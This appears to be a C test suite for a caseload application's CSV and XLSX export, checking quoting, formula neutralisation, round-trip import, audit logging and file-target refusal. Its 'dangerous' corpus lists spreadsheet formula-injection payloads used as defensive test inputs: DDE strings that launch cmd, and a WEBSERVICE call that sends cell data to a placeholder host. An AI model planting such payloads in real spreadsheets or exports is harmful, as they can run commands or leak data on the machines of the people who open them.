/* SPDX-License-Identifier: GPL-3.0-or-later */
/* CSV and XLSX export: what Excel sees, formula neutralisation, the round trip through Koers's
 * own importer, the audit trail, and a 10,000-row figure. */
#include "config.h"

#include <glib/gi18n.h>

#include "cli/koers-export.h"

#include "cli/koers-demo.h"
#include "cli/koers-import.h"
#include "core/koers-participant.h"
#include "storage/koers-database.h"
#include "storage/koers-participant-repository.h"
#include "cli-test-util.h"
#include "koers-test-helpers.h"

#include <glib/gstdio.h>
#include <string.h>
#include <sys/stat.h>

typedef struct {
  const char *name;   /* as entered; NFD in one case */
  const char *stored; /* NFC, as Koers keeps it */
  int         birth_year;
  KoersMunicipality municipality;
  const char *phone;
} Person;

/* \u0308 after "e": "Zoë" typed on a keyboard that composes late (NFD). */
static const Person people[] = {
  { "Jan de Vries", "Jan de Vries", 1980, KOERS_MUNICIPALITY_OOST_GELRE, "+31 6 1234 5678" },
  { "محمد العلي", "محمد العلي", 1992, KOERS_MUNICIPALITY_WINTERSWIJK, "0612345678" },
  { "Zoe\xcc\x88 Janssen", "Zo\xc3\xab Janssen", 1975, KOERS_MUNICIPALITY_AALTEN,
    "+31 314 123 456" },
  { "Ayşe Yılmaz; \"Ayşe\"", "Ayşe Yılmaz; \"Ayşe\"", 2001, KOERS_MUNICIPALITY_DOETINCHEM,
    "-0314 123 456" },
  { "=HYPERLINK(\"http://x\")", "=HYPERLINK(\"http://x\")", 1999,
    KOERS_MUNICIPALITY_BERKELLAND, NULL },
  { "@Noor Haddad", "@Noor Haddad", 1988, KOERS_MUNICIPALITY_MONTFERLAND, "0031612345678" },
  { "-Piet Bakker", "-Piet Bakker", 0, KOERS_MUNICIPALITY_BRONCKHORST, NULL },
  { "=محمد", "=محمد", 1970, KOERS_MUNICIPALITY_OUDE_IJSSELSTREEK, "+49 151 2345678" },
};

static KoersDatabase *
make_people_db (void)
{
  KoersDatabase *db = koers_test_open_temp_db ();

  for (guint i = 0; i < G_N_ELEMENTS (people); i++)
    {
      g_autoptr(KoersParticipant) p = koers_participant_new ();
      g_autoptr(GError) error = NULL;

      koers_participant_set_name (p, people[i].name);
      koers_participant_set_birth_year (p, people[i].birth_year);
      koers_participant_set_municipality (p, people[i].municipality);
      koers_participant_set_phone (p, people[i].phone);
      koers_participant_set_target_group (p, KOERS_TARGET_GROUP_STATUSHOLDER);
      koers_participant_set_status (p, i % 2 == 0 ? KOERS_STATUS_REGISTERED
                                                  : KOERS_STATUS_ACTIVE);
      koers_participant_set_registered_on (p, "2024-02-01");
      koers_participant_repository_insert (db, p, "tester", &error);
      g_assert_no_error (error);
    }
  return db;
}

static char *
temp_file (const char *name)
{
  g_autofree char *dir = koers_test_make_temp_dir ();

  return g_build_filename (dir, name, NULL);
}

static char *
read_file (const char *path, gsize *out_len)
{
  g_autoptr(GError) error = NULL;
  char *contents = NULL;

  g_file_get_contents (path, &contents, out_len, &error);
  g_assert_no_error (error);
  return contents;
}

static gint64
count_export_events (KoersDatabase *db, const char *object_type, const char *result)
{
  sqlite3_stmt *stmt = NULL;
  gint64 n;

  g_assert_cmpint (sqlite3_prepare_v2 (koers_database_get_handle (db),
                                       "SELECT count(*) FROM audit_event WHERE action = 'export'"
                                       " AND object_type = ?1 AND result = ?2", -1, &stmt,
                                       NULL), ==, SQLITE_OK);
  sqlite3_bind_text (stmt, 1, object_type, -1, SQLITE_STATIC);
  sqlite3_bind_text (stmt, 2, result, -1, SQLITE_STATIC);
  g_assert_cmpint (sqlite3_step (stmt), ==, SQLITE_ROW);
  n = sqlite3_column_int64 (stmt, 0);
  sqlite3_finalize (stmt);
  return n;
}

/* Reads one RFC 4180 cell from @p (at a cell's start) independently of the writer. */
static char *
parse_cell (const char **p)
{
  GString *cell = g_string_new (NULL);
  const char *s = *p;

  if (*s == '"')
    {
      s++;
      for (;;)
        {
          g_assert_true (*s != '\0');  /* an unterminated quote is a defect */
          if (*s == '"' && s[1] == '"')
            {
              g_string_append_c (cell, '"');
              s += 2;
            }
          else if (*s == '"')
            {
              s++;
              break;
            }
          else
            g_string_append_c (cell, *s++);
        }
    }
  else
    while (*s != '\0' && *s != ';' && *s != '\r' && *s != '\n')
      g_string_append_c (cell, *s++);
  *p = s;
  return g_string_free (cell, FALSE);
}

static void
test_csv_shape (void)
{
  g_autoptr(KoersDatabase) db = make_people_db ();
  g_autoptr(GError) error = NULL;
  g_autofree char *path = temp_file ("caseload.csv");
  g_autofree char *text = NULL;
  KoersCaseloadQuery query;
  gsize len = 0;
  guint n_rows = 0;
  guint n_crlf = 0;

  koers_caseload_query_init (&query);
  g_assert_true (koers_export_caseload (db, &query, KOERS_EXPORT_FORMAT_CSV, path, "tester",
                                        &n_rows, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (n_rows, ==, G_N_ELEMENTS (people));

  text = read_file (path, &len);
  g_assert_true (g_str_has_prefix (text, "\xEF\xBB\xBF" "id;name;preferred-name;birth-year;"));
  for (gsize i = 0; i < len; i++)
    if (text[i] == '\n')
      {
        g_assert_cmpint (i, >, 0);
        g_assert_cmpint (text[i - 1], ==, '\r');  /* every line ends CRLF, none bare LF */
        n_crlf++;
      }
  g_assert_cmpuint (n_crlf, ==, G_N_ELEMENTS (people) + 1);
  /* The phone is text and starts with "+": quoted-out for Excel. The name with ; and " is
   * quoted with doubled quotes. */
  g_assert_nonnull (strstr (text, ";'+31 6 1234 5678;"));
  g_assert_nonnull (strstr (text, ";\"Ayşe Yılmaz; \"\"Ayşe\"\"\";"));
  g_assert_nonnull (strstr (text, ";\"'=HYPERLINK(\"\"http://x\"\")\";"));
  g_assert_nonnull (strstr (text, ";'=محمد;"));
  g_assert_nonnull (strstr (text, ";'@Noor Haddad;"));
  g_assert_nonnull (strstr (text, ";'-0314 123 456;"));
  /* Numbers and dates Koers wrote are not text: no quote before them. */
  g_assert_nonnull (strstr (text, ";2024-02-01;"));
  g_assert_null (strstr (text, "'2024"));
  g_assert_null (strstr (text, "Zoe\xcc\x88"));  /* stored, so exported, NFC */
  g_assert_cmpint (count_export_events (db, "participant", "success"), ==, 1);
}

/* What a spreadsheet would run, hide or misread; each must come out with one quote in front
 * and, where it holds ; " CR or LF, quoted. */
static const char *const dangerous[] = {
  "=1+1", "+31 6 1234 5678", "-2", "@SUM(A1)", "\tTAB", "\rCR", "=HYPERLINK(\"http://x\")",
  "=محمد العلي", "=cmd|' /C calc'!A0", "+1;2", "-1+1\r\n=2", "@\"quoted\"", "=\"\"",
  "==", "+", "-", "@", "\t", "\r\n", "=SUM(1;2)", "=IMPORTXML(\"http://x\";\"//a\")",
  "+=1", "-=1", "\t=1", "=1\n", "=WEBSERVICE(\"http://x?\"&A1)", "@ ", "=\xe2\x80\xae" "evil",
  "-\xe2\x80\xab" "abc", "=DDE(\"cmd\";\"/C calc\";\"x\")",
};

static void
test_neutralise_corpus (void)
{
  /* Plain text is left alone; a quote Koers did not add is not taken for one. */
  static const struct { const char *in, *out; } exact[] = {
    { "=1+1", "'=1+1" },
    { "+31 6 1234 5678", "'+31 6 1234 5678" },
    { "=HYPERLINK(\"http://x\")", "\"'=HYPERLINK(\"\"http://x\"\")\"" },
    { "\rCR", "\"'\rCR\"" },
    { "\tTAB", "'\tTAB" },
    { "a;b", "\"a;b\"" },
    { "Jan", "Jan" },
    { "'quoted", "'quoted" },
    { "0612345678", "0612345678" },
  };

  g_assert_cmpuint (G_N_ELEMENTS (dangerous), >=, 20);
  for (guint i = 0; i < G_N_ELEMENTS (exact); i++)
    {
      g_autoptr(GString) line = g_string_new (NULL);

      koers_export_csv_append_cell (line, exact[i].in, TRUE);
      g_assert_cmpstr (line->str, ==, exact[i].out);
    }

  for (guint i = 0; i < G_N_ELEMENTS (dangerous); i++)
    {
      g_autoptr(GString) line = g_string_new (NULL);
      g_autofree char *expected = g_strconcat ("'", dangerous[i], NULL);
      g_autofree char *cell = NULL;
      g_autofree char *neutral = koers_export_neutralise (dangerous[i]);
      const char *p;

      /* Two cells on a line, to see the first one ends where it should. */
      koers_export_csv_append_cell (line, dangerous[i], TRUE);
      g_string_append (line, ";next\r\n");
      p = line->str;
      g_test_message ("cell %u: %s", i, line->str);
      if (*p != '"')  /* unquoted, so nothing in it may end or split the cell */
        g_assert_null (strpbrk (dangerous[i], ";\"\r\n"));
      cell = parse_cell (&p);
      g_assert_cmpstr (cell, ==, expected);
      g_assert_cmpstr (p, ==, ";next\r\n");
      g_assert_cmpstr (neutral, ==, expected);
      g_assert_true (koers_export_is_neutralised (neutral));

      /* Not text (a number Koers wrote): written as is. */
      g_string_truncate (line, 0);
      koers_export_csv_append_cell (line, "-2", FALSE);
      g_assert_cmpstr (line->str, ==, "-2");
    }
}

/* What Koers exports, Koers imports back unchanged: the importer strips the quote again. */
static void
test_round_trip (void)
{
  g_autoptr(KoersDatabase) db = make_people_db ();
  g_autoptr(KoersDatabase) fresh = koers_test_open_temp_db ();
  g_autoptr(GError) error = NULL;
  g_autoptr(KoersImportReport) report = koers_import_report_new ();
  g_autofree char *path = temp_file ("round-trip.csv");
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autoptr(GArray) rowids = NULL;
  KoersImportOptions options;
  KoersCaseloadQuery query;

  koers_caseload_query_init (&query);
  g_assert_true (koers_export_caseload (db, &query, KOERS_EXPORT_FORMAT_CSV, path, "tester",
                                        NULL, &error));
  g_assert_no_error (error);

  koers_import_options_init (&options);
  options.actor = "tester";
  options.today_year = 2026;
  koers_import_csv (fresh, file, &options, report, NULL, NULL, NULL, &error);
  for (guint i = 0; i < report->errors->len; i++)
    g_test_message ("import error: %s",
                    ((KoersCsvIssue *) g_ptr_array_index (report->errors, i))->message);
  for (guint i = 0; i < report->warnings->len; i++)
    g_test_message ("import warning: %s",
                    ((KoersCsvIssue *) g_ptr_array_index (report->warnings, i))->message);
  g_assert_no_error (error);
  g_assert_cmpuint (report->n_warnings, ==, 0);
  g_assert_cmpuint (report->n_imported, ==, G_N_ELEMENTS (people));

  rowids = koers_participant_repository_query_rowids (fresh, &query, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (rowids->len, ==, G_N_ELEMENTS (people));
  for (guint i = 0; i < G_N_ELEMENTS (people); i++)
    {
      g_autoptr(GPtrArray) rows = NULL;
      g_autoptr(KoersParticipant) p = NULL;
      gboolean found = FALSE;

      for (guint r = 0; r < rowids->len && !found; r++)
        {
          KoersCaseloadRow *row;

          g_clear_pointer (&rows, g_ptr_array_unref);
          rows = koers_participant_repository_load_rows (fresh,
                                                         &g_array_index (rowids, gint64, r), 1,
                                                         &error);
          g_assert_no_error (error);
          row = g_ptr_array_index (rows, 0);
          if (g_strcmp0 (koers_caseload_row_get_name (row), people[i].stored) != 0)
            continue;
          found = TRUE;
          p = koers_participant_repository_get (fresh, koers_caseload_row_get_id (row),
                                                "tester", "round-trip test", &error);
          g_assert_no_error (error);
        }
      g_test_message ("checking %s", people[i].stored);
      g_assert_true (found);
      g_assert_cmpint (koers_participant_get_birth_year (p), ==, people[i].birth_year);
      g_assert_cmpint (koers_participant_get_municipality (p), ==, people[i].municipality);
      g_assert_cmpstr (koers_participant_get_phone (p), ==, people[i].phone);
    }
}

static char *
sheet_xml (const char *path)
{
  const char *argv[] = {
    "python3", "-c",
    "import sys, zipfile\n"
    "sys.stdout.buffer.write(zipfile.ZipFile(sys.argv[1]).read('xl/worksheets/sheet1.xml'))",
    path, NULL,
  };
  g_autoptr(GError) error = NULL;
  char *out = NULL;
  int status = 0;

  g_spawn_sync (NULL, (char **) argv, NULL, G_SPAWN_SEARCH_PATH, NULL, NULL, &out, NULL,
                &status, &error);
  g_assert_no_error (error);
  g_spawn_check_wait_status (status, &error);
  g_assert_no_error (error);
  return out;
}

static void
test_xlsx (void)
{
  g_autoptr(KoersDatabase) db = make_people_db ();
  g_autoptr(GError) error = NULL;
  g_autofree char *path = temp_file ("caseload.xlsx");
  g_autofree char *bytes = NULL;
  g_autofree char *xml = NULL;
  KoersCaseloadQuery query;
  gsize len = 0;
  guint n_rows = 0;

  koers_caseload_query_init (&query);
  g_assert_true (koers_export_caseload (db, &query, KOERS_EXPORT_FORMAT_XLSX, path, "tester",
                                        &n_rows, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (n_rows, ==, G_N_ELEMENTS (people));
  bytes = read_file (path, &len);
  g_assert_cmpuint (len, >, 4);
  g_assert_cmpmem (bytes, 4, "PK\x03\x04", 4);

  xml = sheet_xml (path);
  /* Strings as string cells, unprefixed (a string cell is never run as a formula). */
  g_assert_nonnull (strstr (xml, "<t>محمد العلي</t>"));
  g_assert_nonnull (strstr (xml, "<t>Zo\xc3\xab Janssen</t>"));
  g_assert_nonnull (strstr (xml, "<t>+31 6 1234 5678</t>"));
  g_assert_nonnull (strstr (xml, "<t>0612345678</t>"));
  g_assert_nonnull (strstr (xml, "<t>=HYPERLINK(\"http://x\")</t>"));
  g_assert_null (strstr (xml, "<f>"));  /* no formula anywhere */
  /* The header row is frozen; 2024-02-01 is a real date (Excel serial 45323). */
  g_assert_nonnull (strstr (xml, "state=\"frozen\""));
  g_assert_nonnull (strstr (xml, "<v>45323</v>"));
  g_assert_null (strstr (xml, "2024-02-01"));
  g_assert_cmpint (count_export_events (db, "participant", "success"), ==, 1);
}

static void
test_tables_and_audit (void)
{
  g_autoptr(KoersDatabase) db = koers_test_open_temp_db ();
  g_autoptr(GError) error = NULL;
  KoersDemoOptions options;
  static const char *const object_types[] = {
    "participant", "note", "activity", "skill", "consent",
  };

  koers_demo_options_init (&options);
  options.n_participants = 40;
  g_assert_true (koers_demo_generate (db, &options, NULL, NULL, NULL, &error));
  g_assert_no_error (error);

  for (guint t = 0; t < KOERS_N_EXPORT_TABLES; t++)
    for (guint f = 0; f < 2; f++)
      {
        KoersExportFormat format = f == 0 ? KOERS_EXPORT_FORMAT_CSV : KOERS_EXPORT_FORMAT_XLSX;
        g_autofree char *name = g_strdup_printf ("%s.%s", koers_export_table_to_id (t),
                                                 koers_export_format_to_id (format));
        g_autofree char *path = temp_file (name);
        guint n_rows = 0;

        g_assert_true (koers_export_table (db, t, format, path, "tester", &n_rows, &error));
        g_assert_no_error (error);
        g_assert_cmpuint (n_rows, >, 0);
        g_assert_true (g_file_test (path, G_FILE_TEST_IS_REGULAR));
        g_assert_cmpint (count_export_events (db, object_types[t], "success"), ==, f + 1);
      }

  /* A directory that does not exist: an error, no file, and the attempt on record. */
  {
    g_autofree char *dir = koers_test_make_temp_dir ();
    g_autofree char *path = g_build_filename (dir, "missing", "notes.csv", NULL);

    g_assert_false (koers_export_table (db, KOERS_EXPORT_TABLE_NOTES, KOERS_EXPORT_FORMAT_CSV,
                                        path, "tester", NULL, &error));
    g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NOT_FOUND);
    g_assert_false (g_file_test (path, G_FILE_TEST_EXISTS));
    g_assert_cmpint (count_export_events (db, "note", "failure"), ==, 1);
  }
}

/* The output is renamed over the target at the end: a named pipe, a device or a folder there is
 * refused before any row is written, and stays what it was. */
static void
test_not_a_file (void)
{
  g_autoptr(KoersDatabase) db = make_people_db ();
  g_autofree char *dir = koers_test_make_temp_dir ();
  g_autofree char *fifo = g_build_filename (dir, "pipe.csv", NULL);
  g_autofree char *folder = g_build_filename (dir, "folder.csv", NULL);
  const char *targets[] = { fifo, folder };
  GStatBuf info;

#ifdef G_OS_UNIX
  g_assert_cmpint (mkfifo (fifo, 0600), ==, 0);
#else
  g_test_skip ("no named pipes here");
  return;
#endif
  g_assert_cmpint (g_mkdir (folder, 0700), ==, 0);
  for (guint i = 0; i < G_N_ELEMENTS (targets); i++)
    for (KoersExportFormat format = KOERS_EXPORT_FORMAT_CSV;
         format <= KOERS_EXPORT_FORMAT_XLSX; format++)
      {
        g_autoptr(GError) error = NULL;

        g_assert_false (koers_export_table (db, KOERS_EXPORT_TABLE_PARTICIPANTS, format,
                                            targets[i], "tester", NULL, &error));
        g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NOT_REGULAR_FILE);
        g_assert_nonnull (strstr (error->message, "not a file"));
      }
  g_assert_cmpint (g_stat (fifo, &info), ==, 0);
  g_assert_true (S_ISFIFO (info.st_mode));
  g_assert_true (g_file_test (folder, G_FILE_TEST_IS_DIR));
  {
    /* Nothing left beside them: the refusal comes before the temporary file. */
    g_autoptr(GDir) listing = g_dir_open (dir, 0, NULL);
    guint n = 0;

    while (g_dir_read_name (listing) != NULL)
      n++;
    g_assert_cmpuint (n, ==, 2);
  }
}

static void
test_cli (void)
{
  const char *cli = g_getenv ("KOERS_CLI");
  g_autoptr(KoersDatabase) db = make_people_db ();
  g_autofree char *path = temp_file ("cli.csv");
  g_autofree char *expected = g_strdup_printf ("Exported 4 rows to %s\n", path);
  const char *ok_argv[] = { cli, "--database", koers_database_get_path (db), "export",
                            "--format", "csv", "--output", path, "--status", "active", NULL };
  const char *bad_argv[] = { cli, "--database", koers_database_get_path (db), "export",
                             "--format", "ods", "--output", path, NULL };
  g_autoptr(GError) error = NULL;
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  int status = 0;

  g_assert_nonnull (cli);
  g_setenv ("LANGUAGE", "C", TRUE);
  g_spawn_sync (NULL, (char **) ok_argv, NULL, G_SPAWN_DEFAULT, NULL, NULL, &out, &err,
                &status, &error);
  g_assert_no_error (error);
  g_test_message ("stderr: %s", err);
  g_assert_true (g_spawn_check_wait_status (status, NULL));
  g_assert_cmpstr (out, ==, expected);

  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);
  g_spawn_sync (NULL, (char **) bad_argv, NULL, G_SPAWN_DEFAULT, NULL, NULL, &out, &err,
                &status, &error);
  g_assert_no_error (error);
  g_spawn_check_wait_status (status, &error);
  g_assert_error (error, G_SPAWN_EXIT_ERROR, 2);
  g_assert_nonnull (strstr (err, "--format"));
}

static void
test_ten_thousand (void)
{
  g_autoptr(KoersDatabase) db = koers_test_open_temp_db ();
  g_autoptr(GError) error = NULL;
  KoersDemoOptions options;
  KoersCaseloadQuery query;

  koers_demo_options_init (&options);
  options.n_participants = 10000;
  options.n_notes = 0;
  g_assert_true (koers_demo_generate (db, &options, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  koers_caseload_query_init (&query);

  for (guint f = 0; f < 2; f++)
    {
      KoersExportFormat format = f == 0 ? KOERS_EXPORT_FORMAT_CSV : KOERS_EXPORT_FORMAT_XLSX;
      g_autofree char *name = g_strdup_printf ("big.%s", koers_export_format_to_id (format));
      g_autofree char *path = temp_file (name);
      g_autoptr(GTimer) timer = g_timer_new ();
      guint n_rows = 0;
      GStatBuf st;

      g_assert_true (koers_export_caseload (db, &query, format, path, "tester", &n_rows,
                                            &error));
      g_assert_no_error (error);
      g_assert_cmpuint (n_rows, ==, 10000);
      g_assert_cmpint (g_stat (path, &st), ==, 0);
      g_test_message ("export 10,000 participants to %s: %.3f s, %" G_GINT64_FORMAT " bytes",
                      koers_export_format_to_id (format), g_timer_elapsed (timer, NULL),
                      (gint64) st.st_size);
    }
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/export/csv-shape", test_csv_shape);
  g_test_add_func ("/export/neutralise-corpus", test_neutralise_corpus);
  g_test_add_func ("/export/round-trip", test_round_trip);
  g_test_add_func ("/export/xlsx", test_xlsx);
  g_test_add_func ("/export/tables-and-audit", test_tables_and_audit);
  g_test_add_func ("/export/not-a-file", test_not_a_file);
  g_test_add_func ("/export/cli", test_cli);
  g_test_add_func ("/export/ten-thousand", test_ten_thousand);
  return g_test_run ();
}
